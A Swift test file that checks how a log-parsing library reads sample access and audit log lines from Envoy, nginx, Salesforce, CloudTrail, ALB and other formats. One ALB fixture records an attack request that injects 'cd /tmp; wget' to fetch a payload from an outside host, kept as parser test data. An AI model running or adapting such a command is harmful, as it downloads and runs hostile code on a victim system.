// weir
// SPDX-License-Identifier: Apache-2.0

import LogFormats
import TestSupport
import Testing

/// Shapes that logs in public repositories and vendors' manuals have, and that were once misread.
struct PublicLogTests {
    /// A line and what it says: parts of ``RecordSight``'s text, in their order.
    struct Sight: CustomTestStringConvertible {
        var what: String
        var format: String
        var fields: [String: String] = [:]
        var line: String
        var says: [String]

        var testDescription: String { "\(format): \(what)" }
    }

    private static let istio = ["account": "client"]
    private static let quoted = #""10.1.2.3" "curl/7.60.0" "d209e46f" "crm:8000" "172.30.146.73:80" outbound|8000 - 172.21.13.94:8000"#

    static let sights = [
        Sight(
            what: "Istio up to 1.3: one text behind the flags", format: "envoy", fields: istio,
            line: #"[2019-03-06T09:31:27.354Z] "GET /api/x HTTP/1.1" 200 - "-" 7 135 11 10 \#(quoted) 172.30.146.82:60290 -"#,
            says: ["2019-03-06T09:31:27.354Z 10.1.2.3", " read - /api/x 10.1.2.3", "bytes 135", "agent=curl/7.60.0"]),
        Sight(
            what: "Istio up to 1.7: two texts", format: "envoy", fields: istio,
            line: #"[2020-06-30T16:17:56.763Z] "GET /api/x HTTP/2" 200 - "-" "TLS error" 0 1295938 529 89 \#(quoted) 10.2.0.1:1 - -"#,
            says: [" 10.1.2.3", " read - /api/x 10.1.2.3", "bytes 1295938", "agent=curl/7.60.0"]),
        Sight(
            what: "Istio from 1.8 on: three", format: "envoy", fields: istio,
            line: #"[2023-06-30T16:17:56.763Z] "GET /api/x HTTP/2" 200 - via_upstream - "-" 0 77 5 4 \#(quoted) 10.2.0.1:1 - default"#,
            says: [" 10.1.2.3", "bytes 77", "agent=curl/7.60.0"]),
        Sight(
            what: "Envoy: none, and no time of an upstream", format: "envoy", fields: istio,
            line: #"[2023-06-30T16:17:56.763Z] "GET /api/x HTTP/2" 200 - 0 78 5 - "10.1.2.3" "curl/7.60.0" "d2" "crm" "-""#,
            says: [" 10.1.2.3", "bytes 78", "agent=curl/7.60.0"]),
        Sight(
            what: "Istio's names, no dashes in them", format: "envoy_json",
            line: #"{"start_time":"2023-03-23T04:09:46.421Z","username":"svc-a","response_code":200,"x_forwarded_for":"172.17.0.1","#
                + #""downstream_remote_address":"10.0.0.9:48499","method":"GET","path":"/items","bytes_sent":502,"user_agent":"curl/7"}"#,
            says: ["svc-a", " /items 172.17.0.1 ", "bytes 502", "agent=curl/7"]),
        Sight(
            what: "Contour's time", format: "envoy_json",
            line: #"{"@timestamp":"2023-03-23T04:09:46.421Z","user":"svc-a","response_code":200,"method":"GET","path":"/items"}"#,
            says: ["2023-03-23T04:09:46.421Z svc-a", " /items"]),
        Sight(
            what: "security activity names who acted", format: "hubspot",
            line: #"{"actingUser":"person3@x.com","createdAt":"2022-04-01T19:36:24.303Z","objectId":"7","type":"ADD_USER","userId":876}"#,
            says: ["person3@x.com", " admin "]),
        Sight(
            what: "record ids as an array", format: "dataverse",
            line: #"{"TimeGenerated":"2026-06-01T02:05:00Z","OfficeWorkload":"CRM","UserId":"s@x.com","Message":"RetrieveMultiple","#
                + #""QueryResults":[ "a" , "b\"", "c,d"],"ClientIP":"1.2.3.4"}"#,
            says: ["s@x.com", " query ", "rows 3"]),
        Sight(
            what: "record ids as a text", format: "dataverse",
            line: #"{"TimeGenerated":"2026-06-01T02:05:00Z","OfficeWorkload":"CRM","UserId":"s@x.com","QueryResults":"a,b"}"#,
            says: ["rows 2"]),
        Sight(
            what: "the request says what was done, where no method stands beside the path", format: "nginx_json",
            line: #"{"@timestamp":"2021-03-01T10:00:00Z","remote_user":"svc","uri":"/index.php","status":"200","bytes_sent":5,"#
                + #""request":"POST /api/contacts HTTP/1.1"}"#,
            says: [" write - /api/contacts ", "bytes 5"]),
        Sight(
            what: "a request that is a path, and a shipper's file", format: "nginx_json",
            line: #"{"@timestamp":"2016-07-24T23:23:22Z","remote_user":"svc","request":"/Status","method":"GET","path":"/var/log/a.json"}"#,
            says: [" read - /Status "]),
        Sight(
            what: "a place for the path in the settings goes first", format: "nginx_json", fields: ["endpoint": "route"],
            line: #"{"@timestamp":"2016-07-24T23:23:22Z","remote_user":"svc","request":"POST /a HTTP/1.1","route":"/b"}"#,
            says: [" write - /b "]),
        Sight(
            what: "escaped slashes", format: "nginx_json",
            line: #"{"time":"2025-09-23T14:54:42Z","remote_user":"svc","status":"200","request":"POST \/api\/v2\/export?a=2 HTTP\/1.1"}"#,
            says: [" export - /api/v2/export?a=2 "]),
        Sight(
            what: "bytes of an error are none that left", format: "nginx_json",
            line: #"{"time":"2025-09-23T14:54:42Z","remote_user":"svc","status":404,"bytes_sent":2326,"request":"GET /a HTTP/1.1"}"#,
            says: [" read - /a - status 404"]),
        Sight(
            what: "a consumer's id in an object", format: "kong",
            line: #"{"request":{"method":"GET","uri":"\/"},"response":{"status":200,"size":8},"started_at":1566660387,"#
                + #""authenticated_entity":{"consumer_id":{"uuid":"72b34d31"}}}"#,
            says: ["72b34d31"]),
        Sight(
            what: "event log objects have names of their own", format: "salesforce_event",
            line: #"{"attributes":{"type":"SoapApiEventLog"},"MethodName":"queryMore","RowsProcessed":2000.0,"#
                + #""Timestamp":"2024-07-27T11:32:59.555+0000","UserIdentifier":"00530000009M943YAS"}"#,
            says: ["00530000009M943", " query ", "rows 2000"]),
        Sight(
            what: "downloads of CRM Analytics", format: "salesforce_event",
            line: #"{"attributes":{"type":"AnalyticsDownloadEventLog"},"DownloadFormat":"csv","RecordCount":12000,"#
                + #""AnalyticsTimestamp":"2024-07-27T11:32:59.555+0000","UserIdentifier":"00530000009M943AAQ"}"#,
            says: [" export ", "rows 12000"]),
        Sight(
            what: "the size of a file", format: "salesforce_event",
            line: #"{"attributes":{"type":"ContentTransferEventLog"},"FileSize":5242880.0,"OperationType":"VersionDownloadApi","#
                + #""Timestamp":"2024-07-27T11:32:59.555+0000","UserIdentifier":"00530000009M943YAS"}"#,
            says: [" export ", "bytes 5242880"]),
        Sight(
            what: "a login without its type", format: "salesforce_event",
            line: #"{"EventDate":"2021-10-19T11:47:22Z","LoginHistoryId":"0Ya5j","CreatedById":"0055j000000q9s7AAA","#
                + #""Status":"Failed: Missing Consumer Key Parameter","EventIdentifier":"06af6d92","SourceIp":"89.160.20.112"}"#,
            says: [" login ", "LoginEvent", "status 401"]),
        Sight(
            what: "a request with blanks in it", format: "alb", fields: ["account": "client"],
            line: #"http 2022-05-12T06:41:29.051646Z app/a/3 67.43.156.20:41542 - -1 -1 -1 301 - 233 390 "#
                + #""GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.x.tk/jaws HTTP/1.1" "Hello" - - - "Root=1" "-" "-" 0 "#
                + #"2022-05-12T06:41:29.051000Z "redirect" "https://127.0.0.1:443/" "-" "-" "-" "Acceptable" "SpaceInUri""#,
            says: ["67.43.156.20", " read - /shell?cd+/tmp;wget+ a.x.tk/jaws ", "status 301"]),
        Sight(
            what: "every field with what is displayed of it", format: "servicenow",
            line: #"{"sys_created_on":{"display_value":"2015-07-06 11:55:46","value":"2015-07-06 18:55:46"},"sys_class_name":"#
                + #"{"display_value":"Export","value":"isc_export_event"},"user_name":{"display_value":"BI","value":"svc-bi"},"#
                + #""records":{"display_value":"2,000","value":"2000"}}"#,
            says: ["2015-07-06T18:55:46Z svc-bi", " export ", "rows 2000"]),
        Sight(
            what: "words where an address should be, and an address", format: "salesforce_event",
            line:
                #"{"EVENT_TYPE":"Login","TIMESTAMP":"20260916085959.605","USER_ID":"111111","URI":"/XIApi","CLIENT_IP":"Salesforce.com IP","#
                + #""LOGIN_STATUS":"LOGIN_NO_ERROR","SOURCE_IP":"203.0.113.2","FORWARDED_FOR_IP":"Salesforce.com IP"}"#,
            says: ["111111", " login - /XIApi 203.0.113.2"]),
        Sight(
            what: "a service in the place of an address", format: "cloudtrail",
            line: #"{"eventTime":"2020-08-12T12:03:12Z","eventSource":"sts.amazonaws.com","eventName":"AssumeRole","sourceIPAddress":"#
                + #""lambda.amazonaws.com","userIdentity":{"invokedBy":"lambda.amazonaws.com","type":"AWSService"}}"#,
            says: [" login - sts.amazonaws.com/AssumeRole -"]),
        Sight(
            what: "a status as the code of an error", format: "cloudtrail",
            line: #"{"eventTime":"2025-01-15T08:07:37Z","eventSource":"grafana.amazonaws.com","eventName":"action","errorCode":"200","#
                + #""sourceIPAddress":"81.2.69.142, 192.168.10.10","userIdentity":{"type":"SAMLUser","userName":"u@x.com"}}"#,
            says: ["u@x.com human", " 81.2.69.142 ", "status 200"]),
        Sight(
            what: "the address by a name of one's own", format: "nginx_json",
            line: #"{"timestamp":"29/Mar/2023:23:39:26 +0800","clientip":"192.168.101.1","remote_user":"a","request":"GET / HTTP/1.1","#
                + #""status":"304","size":"0","upstream_addr":"-","request_time":"0.000"}"#,
            says: ["2023-03-29T15:39:26Z a", " read - / 192.168.101.1 status 304"]),
        Sight(
            what: "the end of a connection stands for nobody", format: "envoy_json", fields: ["account": "downstream_remote_address"],
            line: #"{"downstream_remote_address":"[2a02:cf40::4e36]:5000","method":"GET","path":"/reviews/0","response_code":200,"#
                + #""start_time":"2022-09-08T12:51:05.656Z","bytes_sent":358,"x_forwarded_for":null}"#,
            says: ["656Z 2a02:cf40::4e36 ", "bytes 358"]),
        Sight(
            what: "of a chain the first stands for nobody", format: "envoy_json", fields: ["account": "x-forwarded-for"],
            line: #"{"x-forwarded-for":"192.0.2.1:4711, 10.0.0.1","method":"GET","response_code":200,"start_time":"2022-09-08T12:51:05Z"}"#,
            says: ["05Z 192.0.2.1 "]),
        Sight(
            what: "a name with a comma stays one", format: "envoy_json", fields: ["account": "who"],
            line: #"{"who":"Doe, Jane","method":"GET","response_code":200,"start_time":"2022-09-08T12:51:05Z"}"#, says: ["05Z Doe, Jane "]),
        Sight(
            what: "an address stands for nobody", format: "combined", fields: ["account": "client"],
            line: #"example.com 10.0.0.2, 10.0.0.1, 67.43.156.14 - - [07/Dec/2016:11:05:07 +0100] "GET /o HTTP/1.1" 200 571 "-" "M""#,
            says: ["2016-12-07T10:05:07Z 67.43.156.14 ", " read - /o 67.43.156.14 ", "bytes 571"]),
        Sight(
            what: "a chain of addresses between tabs has blanks", format: "cloudfront", fields: ["account": "c-ip"],
            line: "2022-11-15\t08:43:04\tSEA19-C2\t10157\t81.2.69.143\tGET\td1.cloudfront.net\t/getApplications\t200\t-\tM\t-\t-\tMiss\t"
                + "hrs==\ttest.com\thttps\t1057\t0.093\t81.2.69.142, 216.160.83.56\tTLSv1.2\tE\tMiss\tHTTP/1.1\t-\t-\t33359\t0.093\tMiss\t"
                + "application/javascript\t-\t-\t-",
            says: ["81.2.69.143", " read - /getApplications ", "bytes 10157"]),
        Sight(
            what: "what was done as the type of an event only", format: "ocsf",
            line: #"{"time":1716450852000,"class_uid":6003,"activity_name":"GetObject","type_uid":600302,"status_id":1,"#
                + #""actor":{"user":{"name":"op","uid":"op"}},"api":{"operation":"s3:GetObject"},"src_endpoint":{"ip":"127.0.0.1"}}"#,
            says: ["2024-05-23T07:54:12Z op ", " read - s3:GetObject 127.0.0.1"]),
        Sight(
            what: "a name that was looked up, behind a host that is an address", format: "combined",
            line: #"67.43.156.15 localhost - svc-a [29/May/2017:19:02:48 +0000] "GET /x HTTP/1.1" 200 612 "-" "a""#,
            says: ["svc-a", " /x localhost "]),
    ]

    @Test(arguments: sights) func `a public log is read as it says`(sight: Sight) throws {
        let seen = try RecordSight(sight.format, sight.line + "\n", fields: sight.fields)
        #expect(seen.refused.isEmpty && seen.ignored == 0)
        let line = try #require(seen.lines.first)
        var rest = line[...]
        for part in sight.says {
            let place = rest.firstRange(of: part)
            #expect(place != nil, "\(part) in: \(line)")
            if let place { rest = rest[rest.index(before: place.upperBound)...] }
        }
    }

    @Test func `a statement that still runs is none yet, and counts when it has ended`() throws {
        func record(_ status: String, _ end: String) -> String {
            #"{"QUERY_ID":"01a-1","QUERY_TYPE":"SELECT","USER_NAME":"SVC","START_TIME":"2024-10-09 12:38:06.158 -0700","#
                + #""EXECUTION_STATUS":"\#(status)","END_TIME":\#(end),"ROWS_PRODUCED":\#(status == "SUCCESS" ? "5" : "null")}"#
        }
        let running = record("RUNNING", "\"1969-12-31 16:00:00.000 -0800\"") + record("QUEUED", "null")
        let seen = try RecordSight("snowflake", running + record("SUCCESS", "\"2024-10-09 12:38:09.158 -0700\""))
        #expect(seen.ignored == 2 && seen.refused.isEmpty)
        #expect(seen.lines.count == 1 && seen.lines[0].contains("rows 5"))
    }

    @Test(arguments: [
        #"[2019-03-06T09:31:27.354Z] "GET /x HTTP/1.1" 200 - "-" "-" "-" "-" 0 135 11 10 "-" "-" "a" "b" "c""#,
        #"[2019-03-06T09:31:27.354Z] "GET /x HTTP/1.1" 200 - a b 0 135 11 10 "-" "-" "a" "b" "c""#,
        #"[2019-03-06T09:31:27.354Z] "GET /x HTTP/1.1" 200 - a 0 135 11 10 "-" "-" "a" "b" "c""#,
        #"[2019-03-06T09:31:27.354Z] "GET /x HTTP/1.1" 200 - "7" 135 "11" 10 "-" "-" "a" "b" "c""#,
        #"[2019-03-06T09:31:27.354Z] "GET /x HTTP/1.1" 200 - - - - - 0 135 11 10"#,
    ]) func `a line of Envoy whose numbers stand elsewhere is refused`(line: String) throws {
        #expect(try RecordSight("envoy", line + "\n").reasons == ["syntax": 1])
    }

    @Test func `words of a request without a version are no request`() throws {
        let line = #"2026-06-01T02:05:00Z lb 1.2.3.4:5 - -1 -1 -1 301 - 233 390 "GET /a b c" "x" - -"#
        #expect(try RecordSight("alb", line + "\n").reasons == ["syntax": 1])
    }
}
